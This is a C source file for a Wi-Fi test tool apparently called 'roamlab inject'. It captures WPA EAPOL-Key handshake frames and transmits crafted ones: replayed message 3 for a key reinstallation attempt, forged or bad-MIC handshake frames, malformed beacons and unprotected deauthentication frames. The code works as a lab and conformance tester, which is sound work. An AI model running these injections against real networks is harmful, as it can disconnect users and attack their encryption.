// SPDX-License-Identifier: MIT
/* inject.c: roamlab inject (see inject.h).
 *
 * Send kinds (each frame goes out as its captured sender sent it: same
 * addresses and To/From DS bits, unprotected data with LLC/SNAP and
 * ethertype 0x888e, Retry cleared so that duplicate detection (10.3.2.14)
 * does not hide it):
 *   forged-m1  captured 1/4, replay counter = highest captured from the AP
 *              + bump, a new random ANonce (1/4 has no MIC, 12.7.6.2);
 *   replay-m3  captured 3/4 unchanged (the key reinstallation attempt);
 *   badmic-m3  captured 3/4, replay counter = highest captured + bump, one
 *              MIC bit flipped;
 *   replay-g1  captured group 1/2 unchanged;
 *   badmic-m2  captured 2/4 (STA -> AP) with one MIC bit flipped.
 * Beacon kinds (a valid SSID, rates, DS, RSN set plus one bad element):
 *   bad-len    a vendor element whose length runs past the frame end;
 *   vendor-255 a 255-byte WPA vendor element claiming 65535 suites;
 *   rsn-short  an RSN element of 3 bytes (version and 1 byte of a suite);
 *   ssid-long  an SSID element of 64 bytes (9.4.2.2: at most 32). */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "buf.h"
#include "crypto.h"
#include "eapol.h"
#include "frame.h"
#include "ie.h"
#include "inject.h"
#include "mgmt.h"
#include "pcap.h"
#include "util.h"

static const char *const msg_tag[8] = {
	[EAPOL_MSG_PTK_1] = "m1", [EAPOL_MSG_PTK_2] = "m2", [EAPOL_MSG_PTK_3] = "m3",
	[EAPOL_MSG_PTK_4] = "m4", [EAPOL_MSG_GROUP_1] = "g1", [EAPOL_MSG_GROUP_2] = "g2",
};

static int tag_index(const char *t)
{
	for (int i = 0; i < 8; i++)
		if (msg_tag[i] && !strcmp(msg_tag[i], t))
			return i;
	return -1;
}

/* The EAPOL-Key frame inside an 802.11 frame, parsed by the one parser. */
static int frame_key(const uint8_t *f, size_t len, struct sim_frame_info *fi,
		     struct eapol_key *k)
{
	const uint8_t *e;
	size_t elen;
	const char *why;

	if (!sim_frame_parse(f, len, fi))
		return -EBADMSG;
	e = sim_frame_eapol(f, len, fi, &elen);
	if (!e)
		return -ENOENT;
	return eapol_key_parse(e, elen, k, &why);
}

int sim_inj_store_parse(struct sim_inj_store *st, const char *text, size_t len,
			const char *path, char *err, size_t errlen)
{
	size_t pos = 0;
	int line = 0;

	memset(st, 0, sizeof(*st));
	while (pos < len) {
		const char *nl = memchr(text + pos, '\n', len - pos);
		size_t ll = nl ? (size_t)(nl - text - pos) : len - pos;
		char buf[2 * SIM_INJ_FRAME_MAX + 16], *sp;
		int idx;

		line++;
		if (ll >= sizeof(buf)) {
			snprintf(err, errlen, "%s:%d: line too long", path, line);
			return -EINVAL;
		}
		memcpy(buf, text + pos, ll);
		buf[ll] = '\0';
		pos += ll + (nl ? 1 : 0);
		if (!buf[0] || buf[0] == '#')
			continue;
		sp = strchr(buf, ' ');
		if (!sp) {
			snprintf(err, errlen, "%s:%d: expected \"KIND HEX\"", path, line);
			return -EINVAL;
		}
		*sp = '\0';
		idx = tag_index(buf);
		if (idx < 0) {
			snprintf(err, errlen, "%s:%d:%s: unknown message (m1..m4, g1, g2)", path,
				 line, buf);
			return -EINVAL;
		}
		if (hex_decode_var(sp + 1, st->frame[idx], SIM_INJ_FRAME_MAX, &st->len[idx])) {
			snprintf(err, errlen, "%s:%d:%s: bad hex frame", path, line, buf);
			return -EINVAL;
		}
	}
	return 0;
}

/* Highest replay counter among the captured frames the AP sent. */
static uint64_t max_ap_rc(const struct sim_inj_store *st)
{
	static const int ap_msgs[] = { EAPOL_MSG_PTK_1, EAPOL_MSG_PTK_3, EAPOL_MSG_GROUP_1 };
	uint64_t m = 0;

	for (size_t i = 0; i < ARRAY_SIZE(ap_msgs); i++) {
		struct sim_frame_info fi;
		struct eapol_key k;
		int n = ap_msgs[i];

		if (st->len[n] && !frame_key(st->frame[n], st->len[n], &fi, &k) &&
		    k.replay_counter > m)
			m = k.replay_counter;
	}
	return m;
}

int sim_inj_build(const struct sim_inj_store *st, const char *kind, uint64_t rc_bump,
		  uint8_t *out, size_t cap, size_t *out_len)
{
	static const struct {
		const char *kind;
		enum eapol_msg from;
		bool new_rc, new_anonce, flip_mic;
	} kinds[] = {
		{ "forged-m1", EAPOL_MSG_PTK_1, true, true, false },
		{ "replay-m3", EAPOL_MSG_PTK_3, false, false, false },
		{ "badmic-m3", EAPOL_MSG_PTK_3, true, false, true },
		{ "replay-g1", EAPOL_MSG_GROUP_1, false, false, false },
		{ "badmic-m2", EAPOL_MSG_PTK_2, false, false, true },
	};
	struct sim_frame_info fi;
	struct eapol_key k;
	uint8_t *f = out;
	size_t i, n;

	for (i = 0; i < ARRAY_SIZE(kinds); i++)
		if (!strcmp(kinds[i].kind, kind))
			break;
	if (i == ARRAY_SIZE(kinds))
		return -EINVAL;
	n = st->len[kinds[i].from];
	if (!n)
		return -ENOENT;
	if (n > cap)
		return -ENOSPC;
	memcpy(f, st->frame[kinds[i].from], n);
	if (frame_key(f, n, &fi, &k))
		return -ENOENT;
	/* k's pointers point into f: the fields are changed where the
	 * parser found them */
	if (kinds[i].new_rc)
		put_be64(f + (k.replay - f), max_ap_rc(st) + rc_bump);
	if (kinds[i].new_anonce && crypto_random(f + (k.nonce - f), 32))
		return -EIO;
	if (kinds[i].flip_mic)
		f[k.mic - f] ^= 0x01;
	sim_frame_set_retry(f, n, false);
	*out_len = n;
	return 0;
}

/* ---- beacons ------------------------------------------------------------------ */

static int build_beacon(const char *kind, const uint8_t bssid[6], const char *ssid,
			uint8_t channel, uint8_t *out, size_t cap, size_t *out_len)
{
	static const uint8_t bcast[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	static const uint8_t rates[] = { 0x82, 0x84, 0x8b, 0x96, 0x0c, 0x12, 0x18, 0x24 };
	struct wpa_ie_info rsn = {
		.proto = IE_PROTO_RSN, .version = 1, .group_cipher = WPA_CIPHER_CCMP,
		.pairwise_ciphers = WPA_CIPHER_CCMP, .akms = WPA_AKM_PSK,
	};
	uint8_t ies[1024], body[255], rsnie[IE_MAX_LEN];
	size_t rsnlen;
	struct wbuf w;
	bool bad_len = !strcmp(kind, "bad-len"), vendor = !strcmp(kind, "vendor-255"),
	     rsn_short = !strcmp(kind, "rsn-short"), ssid_long = !strcmp(kind, "ssid-long");

	if (!bad_len && !vendor && !rsn_short && !ssid_long)
		return -EINVAL;
	memset(body, 'x', sizeof(body));
	wbuf_init(&w, ies, sizeof(ies));
	if (ssid_long)
		mgmt_put_ie(&w, IE_SSID, body, 64);
	else if (mgmt_put_ssid(&w, (const uint8_t *)ssid, strlen(ssid)))
		return -EINVAL;
	mgmt_put_rates(&w, rates, sizeof(rates));
	mgmt_put_ds_param(&w, channel);
	if (rsn_short) {
		static const uint8_t short_rsn[3] = { 1, 0, 0x00 };

		mgmt_put_ie(&w, IE_RSN, short_rsn, sizeof(short_rsn));
	} else {
		if (ie_build(&rsn, rsnie, sizeof(rsnie), &rsnlen))
			return -EINVAL;
		wbuf_put_data(&w, rsnie, rsnlen);
	}
	if (vendor) {
		/* WPA OUI and type, version 1, a group suite, then a pairwise
		 * count of 65535 that the rest of the element cannot hold */
		static const uint8_t head[] = { 0x00, 0x50, 0xf2, 0x01, 0x01, 0x00,
						0x00, 0x50, 0xf2, 0x02, 0xff, 0xff };

		memcpy(body, head, sizeof(head));
		mgmt_put_ie(&w, IE_VENDOR, body, 255);
	}
	if (bad_len) {
		/* the header says 200 bytes, the frame ends after 10 */
		wbuf_put_u8(&w, IE_VENDOR);
		wbuf_put_u8(&w, 200);
		wbuf_put_data(&w, body, 10);
	}
	if (!wbuf_ok(&w))
		return -ENOSPC;
	{
		struct wbuf f;

		wbuf_init(&f, out, cap);
		/* capability: ESS, Privacy (9.4.1.4) */
		if (mgmt_build_beacon(&f, false, bcast, bssid, bssid, 0, 100, 0x0011, ies, w.len))
			return -ENOSPC;
		*out_len = f.len;
	}
	return 0;
}

/* ---- the monitor interface ------------------------------------------------------ */

static int mon_open(const char *ifname)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	int fd;

	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (!sll.sll_ifindex) {
		fprintf(stderr, "roamlab inject: no interface %s\n", ifname);
		return -ENODEV;
	}
	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (fd < 0 || bind(fd, (struct sockaddr *)&sll, sizeof(sll))) {
		fprintf(stderr, "roamlab inject: %s: %s\n", ifname, strerror(errno));
		if (fd >= 0)
			close(fd);
		return -errno;
	}
	return fd;
}

static int mon_send(int fd, const uint8_t *f, size_t len)
{
	/* radiotap version 0, length 8, no fields: mac80211 picks the rate */
	uint8_t buf[8 + SIM_INJ_FRAME_MAX] = { 0, 0, 8, 0, 0, 0, 0, 0 };

	if (len > SIM_INJ_FRAME_MAX)
		return -EMSGSIZE;
	memcpy(buf + 8, f, len);
	if (send(fd, buf, 8 + len, 0) != (ssize_t)(8 + len))
		return -errno;
	return 0;
}

static uint64_t mono_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static int write_store(const struct sim_inj_store *st, const char *path)
{
	FILE *f = fopen(path, "w");
	char hex[2 * SIM_INJ_FRAME_MAX + 1];

	if (!f)
		return -errno;
	for (int i = 0; i < 8; i++) {
		if (!st->len[i])
			continue;
		hex_encode(st->frame[i], st->len[i], hex);
		fprintf(f, "%s %s\n", msg_tag[i], hex);
	}
	return fclose(f) ? -EIO : 0;
}

static int do_capture(int fd, const uint8_t ap[6], const uint8_t sta[6], const char *path,
		      int secs, unsigned int want)
{
	static struct sim_inj_store st;
	uint64_t end = mono_ms() + (uint64_t)secs * 1000;
	unsigned int have = 0;
	uint8_t buf[8192];

	while ((have & want) != want) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		uint64_t now = mono_ms();
		struct sim_frame_info fi;
		struct eapol_key k;
		size_t off;
		bool fcs;
		ssize_t n;
		int m;

		if (now >= end)
			break;
		if (poll(&p, 1, (int)(end - now)) <= 0)
			continue;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n <= 0 || sim_radiotap_parse(buf, (size_t)n, &off, &fcs))
			continue;
		n -= (ssize_t)off + (fcs ? 4 : 0);
		if (n <= 0 || (size_t)n > SIM_INJ_FRAME_MAX ||
		    frame_key(buf + off, (size_t)n, &fi, &k) || !fi.a2)
			continue;
		if (!((mac_equal(fi.a1, ap) && mac_equal(fi.a2, sta)) ||
		      (mac_equal(fi.a1, sta) && mac_equal(fi.a2, ap))))
			continue;
		m = (int)eapol_key_classify(&k);
		if (m <= 0 || m >= 8 || !msg_tag[m])
			continue;
		memcpy(st.frame[m], buf + off, (size_t)n);
		st.len[m] = (size_t)n;
		if (!(have & 1u << m))
			printf("captured %s (replay counter %llu)\n", msg_tag[m],
			       (unsigned long long)k.replay_counter);
		have |= 1u << m;
		fflush(stdout);
	}
	if (write_store(&st, path)) {
		fprintf(stderr, "roamlab inject: cannot write %s\n", path);
		return 1;
	}
	if ((have & want) != want) {
		fprintf(stderr, "roamlab inject: capture timed out after %d s; missing:", secs);
		for (int i = 0; i < 8; i++)
			if ((want & ~have) & 1u << i)
				fprintf(stderr, " %s", msg_tag[i]);
		fprintf(stderr, "\n");
		return 1;
	}
	return 0;
}

static int read_store(struct sim_inj_store *st, const char *path)
{
	static char text[16 * SIM_INJ_FRAME_MAX];
	char err[256];
	size_t n;
	FILE *f = fopen(path, "r");

	if (!f) {
		fprintf(stderr, "roamlab inject: %s: %s\n", path, strerror(errno));
		return -errno;
	}
	n = fread(text, 1, sizeof(text), f);
	fclose(f);
	if (sim_inj_store_parse(st, text, n, path, err, sizeof(err))) {
		fprintf(stderr, "roamlab inject: %s\n", err);
		return -EINVAL;
	}
	return 0;
}

static void usage(void)
{
	fprintf(stderr,
		"usage: roamlab inject -i MONIF capture -a BSSID -s STA -w FILE [-t SECS] [MSG...]\n"
		"         keep the last of each EAPOL-Key message (m1 m2 m3 m4 g1 g2) between\n"
		"         BSSID and STA; exit 0 once every MSG (default m1 m2 m3 g1) was seen\n"
		"       roamlab inject -i MONIF send KIND -r FILE [-n COUNT] [--bump N]\n"
		"         forged-m1 replay-m3 badmic-m3 replay-g1 badmic-m2\n"
		"       roamlab inject -i MONIF beacon KIND -b BSSID [-s SSID] [-c CHAN] [-n COUNT]\n"
		"         bad-len vendor-255 rsn-short ssid-long\n"
		"       roamlab inject -i MONIF deauth|disassoc -a BSSID -s STA [--reason N] [-n COUNT]\n"
		"         an unprotected Deauthentication/Disassociation from BSSID to STA\n"
		"         (a PMF station must ignore it, 802.11-2020 11.13)\n");
}

int sim_inject_main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "bump", required_argument, NULL, 'B' },
		{ "reason", required_argument, NULL, 'R' },
		{ NULL, 0, NULL, 0 },
	};
	static struct sim_inj_store st;
	const char *ifname = NULL, *file = NULL, *ssid = "roaming", *cmd, *kind;
	uint8_t ap[6] = { 0 }, sta[6] = { 0 }, frame[SIM_INJ_FRAME_MAX];
	bool have_ap = false, have_sta = false;
	unsigned long count = 1;
	uint64_t bump = 1;
	unsigned long reason = 7;	/* class 3 frame from a nonassociated STA */
	int c, fd, secs = 30, ret = 1, channel = 1, r;
	unsigned int want = 0;
	size_t len = 0;

	/* GNU getopt permutes: options may come before or after the words */
	while ((c = getopt_long(argc, argv, "i:a:b:s:w:r:t:n:c:", opts, NULL)) != -1) {
		switch (c) {
		case 'i':
			ifname = optarg;
			break;
		case 'a':
		case 'b':
			have_ap = !mac_parse(optarg, ap);
			break;
		case 's':
			if (mac_parse(optarg, sta))
				ssid = optarg;	/* beacon -s is an SSID */
			else
				have_sta = true;
			break;
		case 'w':
		case 'r':
			file = optarg;
			break;
		case 't':
			secs = atoi(optarg);
			break;
		case 'n':
			count = strtoul(optarg, NULL, 0);
			break;
		case 'c':
			channel = atoi(optarg);
			break;
		case 'B':
			bump = strtoull(optarg, NULL, 0);
			break;
		case 'R':
			reason = strtoul(optarg, NULL, 0);
			break;
		default:
			usage();
			return 2;
		}
	}
	if (!ifname || optind >= argc) {
		usage();
		return 2;
	}
	cmd = argv[optind];
	kind = optind + 1 < argc ? argv[optind + 1] : NULL;
	if (!strcmp(cmd, "capture")) {
		for (int i = optind + 1; i < argc; i++) {
			int m = tag_index(argv[i]);

			if (m < 0) {
				fprintf(stderr, "roamlab inject: unknown message %s\n", argv[i]);
				return 2;
			}
			want |= 1u << m;
		}
		if (!want)
			want = 1u << EAPOL_MSG_PTK_1 | 1u << EAPOL_MSG_PTK_2 |
			       1u << EAPOL_MSG_PTK_3 | 1u << EAPOL_MSG_GROUP_1;
		if (!have_ap || !have_sta || !file) {
			usage();
			return 2;
		}
	} else if (!strcmp(cmd, "send")) {
		if (!kind || !file || read_store(&st, file))
			return 2;
		r = sim_inj_build(&st, kind, bump, frame, sizeof(frame), &len);
		if (r) {
			fprintf(stderr, "roamlab inject: %s: %s\n", kind,
				r == -ENOENT ? "the message it needs was not captured" :
				r == -EINVAL ? "unknown kind" : strerror(-r));
			return 2;
		}
	} else if (!strcmp(cmd, "beacon")) {
		if (!kind || !have_ap ||
		    build_beacon(kind, ap, ssid, (uint8_t)channel, frame, sizeof(frame), &len)) {
			fprintf(stderr, "roamlab inject: beacon: needs -b BSSID and a known kind\n");
			return 2;
		}
	} else if (!strcmp(cmd, "deauth") || !strcmp(cmd, "disassoc")) {
		struct wbuf w;

		if (!have_ap || !have_sta || reason > 0xffff) {
			usage();
			return 2;
		}
		wbuf_init(&w, frame, sizeof(frame));
		r = !strcmp(cmd, "deauth") ?
		    mgmt_build_deauth(&w, sta, ap, ap, (uint16_t)reason) :
		    mgmt_build_disassoc(&w, sta, ap, ap, (uint16_t)reason);
		if (r || !wbuf_ok(&w)) {
			fprintf(stderr, "roamlab inject: cannot build the %s frame\n", cmd);
			return 2;
		}
		len = w.len;
		kind = "unprotected";
	} else {
		usage();
		return 2;
	}
	fd = mon_open(ifname);
	if (fd < 0)
		return 1;
	if (!strcmp(cmd, "capture")) {
		ret = do_capture(fd, ap, sta, file, secs, want);
		goto cleanup;
	}
	for (unsigned long i = 0; i < count; i++) {
		r = mon_send(fd, frame, len);
		if (r) {
			fprintf(stderr, "roamlab inject: send: %s\n", strerror(-r));
			goto cleanup;
		}
		usleep(2000);
	}
	printf("sent %s %s x%lu (%zu bytes)\n", cmd, kind, count, len);
	ret = 0;
cleanup:
	close(fd);
	return ret;
}
